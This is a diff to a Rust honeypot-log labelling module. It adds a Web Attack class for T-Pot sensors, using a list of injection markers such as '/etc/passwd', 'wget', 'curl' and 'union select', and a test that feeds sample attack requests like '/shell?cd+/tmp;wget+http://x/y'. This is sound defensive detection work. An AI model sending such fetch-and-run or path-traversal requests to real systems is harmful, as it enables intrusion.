@@ -11,6 +11,12 @@
 //! A source matching several rules takes the first; a source matching none is not
 //! audited (but still counts in the share of sources called Normal).
 //!
+//! T-Pot's sensors ([`sensor_labels`], [`SENSOR_LABELS`]) add a fourth rule, checked after
+//! Malware/Botnet: Web Attack when a request carries an injection (Tanner's own detection
+//! type 2, `../`, `/etc/passwd`, `<script`, `union select`, `wget`, `curl`, `cmd=`,
+//! `php://`, `/shell?`) or an Elasticpot request has a body; and Brute Force needs 10
+//! attempts there (a Heralding session records at most a few).
+//!
 //! Flow logs labelled per flow (Stratosphere's `label` column of a Zeek `conn` log:
 //! `Malicious`, `Benign`, `Background`) are checked with [`FLOW_LABELS`]
 //! ([`flow_labels`]): a source whose flows are all Malicious is an attacker, and agrees
@@ -63,6 +69,59 @@ pub const HONEYPOT_LABELS: [LabelClass; 3] = [
     LabelClass { name: WEAK_CLASSES[1], agrees: Agrees::Class(WEAK_CLASSES[1]) },
     LabelClass { name: WEAK_CLASSES[2], agrees: Agrees::Class(WEAK_CLASSES[2]) },
 ];
+
+/// The weak labels of T-Pot's sensors ([`sensor_labels`]): the honeypot ones and Web
+/// Attack, each agreeing with its class.
+pub const SENSOR_LABELS: [LabelClass; 4] = [
+    HONEYPOT_LABELS[0],
+    HONEYPOT_LABELS[1],
+    HONEYPOT_LABELS[2],
+    LabelClass { name: "Web Attack", agrees: Agrees::Class("Web Attack") },
+];
+
+/// Markers of an injection in a request, lower-cased (what [`sensor_labels`] calls a web
+/// attack besides Tanner's own detection).
+const INJECTIONS: [&str; 10] = [
+    "../",
+    "/etc/passwd",
+    "<script",
+    "union select",
+    "wget",
+    "curl",
+    "cmd=",
+    "php://",
+    "/shell?",
+    "%2e%2e/",
+];
+
+fn is_injection(e: &Event) -> bool {
+    if e.kind != EventKind::HttpRequest {
+        return false;
+    }
+    let tanner_attack = e.category.as_deref() == Some("tanner type 2");
+    let body = e.command.as_deref().is_some_and(|c| !c.trim().is_empty());
+    let url = e.url.as_deref().map(str::to_ascii_lowercase).unwrap_or_default();
+    let decoded = url.replace('+', " ").replace("%20", " ");
+    tanner_attack || body || INJECTIONS.iter().any(|m| decoded.contains(m))
+}
+
+/// The weak label of every source of a T-Pot sensor's log that has one (an index into
+/// [`SENSOR_LABELS`]): the honeypot rules of [`weak_labels`] with Brute Force at 10
+/// attempts, and Web Attack after Malware/Botnet.
+pub fn sensor_labels(events: &[Event]) -> BTreeMap<IpAddr, usize> {
+    let mut web: std::collections::BTreeSet<IpAddr> = std::collections::BTreeSet::new();
+    for e in events.iter().filter(|e| is_injection(e)) {
+        web.insert(e.src_ip);
+    }
+    let mut labels = weak_labels_with(events, 10);
+    for ip in web {
+        let label = labels.entry(ip).or_insert(3);
+        if *label != 0 {
+            *label = 3;
+        }
+    }
+    labels
+}
 
 /// The per-flow labels of a flow log ([`flow_labels`]): attackers must not be called
 /// Normal, benign sources must be.
@@ -155,6 +214,11 @@ fn is_fetch(command: &str) -> bool {
 
 /// The weak label of every source that has one (an index into [`WEAK_CLASSES`]).
 pub fn weak_labels(events: &[Event]) -> BTreeMap<IpAddr, usize> {
+    weak_labels_with(events, 20)
+}
+
+/// [`weak_labels`] with Brute Force at `brute_force` failed logins.
+fn weak_labels_with(events: &[Event], brute_force: usize) -> BTreeMap<IpAddr, usize> {
     let mut tallies: BTreeMap<IpAddr, Tally> = BTreeMap::new();
     for e in events {
         let t = tallies.entry(e.src_ip).or_default();
@@ -180,7 +244,7 @@ pub fn weak_labels(events: &[Event]) -> BTreeMap<IpAddr, usize> {
             let sessions = t.sessions.len().max(t.connects);
             let label = if t.fetch {
                 Some(0)
-            } else if t.failed >= 20 && t.succeeded == 0 {
+            } else if t.failed >= brute_force && t.succeeded == 0 {
                 Some(1)
             } else if sessions >= 5 && t.failed + t.succeeded == 0 {
                 Some(2)
@@ -479,6 +543,42 @@ mod tests {
         assert!(html.contains("<tr><td>192.0.2.2</td><td>Brute Force</td><td>Normal</td></tr>"));
         assert!(html.contains("<td>Brute Force</td><td>1</td><td>0</td><td>0.000</td>"));
         assert!(html.ends_with("</body></html>\n") && !html.contains("<script"));
+    }
+
+    #[test]
+    fn sensor_labels_add_web_attacks_and_count_ten_attempts() {
+        let mut events: Vec<Event> =
+            (0..10).map(|_| event("192.0.2.1", EventKind::LoginFailed, "a", None)).collect();
+        let request = |ip: &str, url: &str| {
+            let mut e = event(ip, EventKind::HttpRequest, "w", None);
+            e.url = Some(url.into());
+            e
+        };
+        events.push(request("192.0.2.2", "/shell?cd+/tmp;wget+http://x/y"));
+        events.push(request("192.0.2.3", "/index.html"));
+        let mut tanner = request("192.0.2.4", "/index.php?q=1");
+        tanner.category = Some("tanner type 2".into());
+        events.push(tanner);
+        let mut body = request("192.0.2.5", "/_search");
+        body.command = Some("{\"script\": 1}".into());
+        events.push(body);
+        // A downloader stays Malware/Botnet even with an injection.
+        events.push(event("192.0.2.6", EventKind::FileUpload, "u", None));
+        events.push(request("192.0.2.6", "/../../etc/passwd"));
+        let got: Vec<(String, usize)> =
+            sensor_labels(&events).iter().map(|(ip, &l)| (ip.to_string(), l)).collect();
+        assert_eq!(
+            got,
+            [
+                ("192.0.2.1".into(), 1),
+                ("192.0.2.2".into(), 3),
+                ("192.0.2.4".into(), 3),
+                ("192.0.2.5".into(), 3),
+                ("192.0.2.6".into(), 0)
+            ]
+        );
+        // The Cowrie rules need 20.
+        assert!(!weak_labels(&events).contains_key(&"192.0.2.1".parse().unwrap()));
     }
 
     #[test]
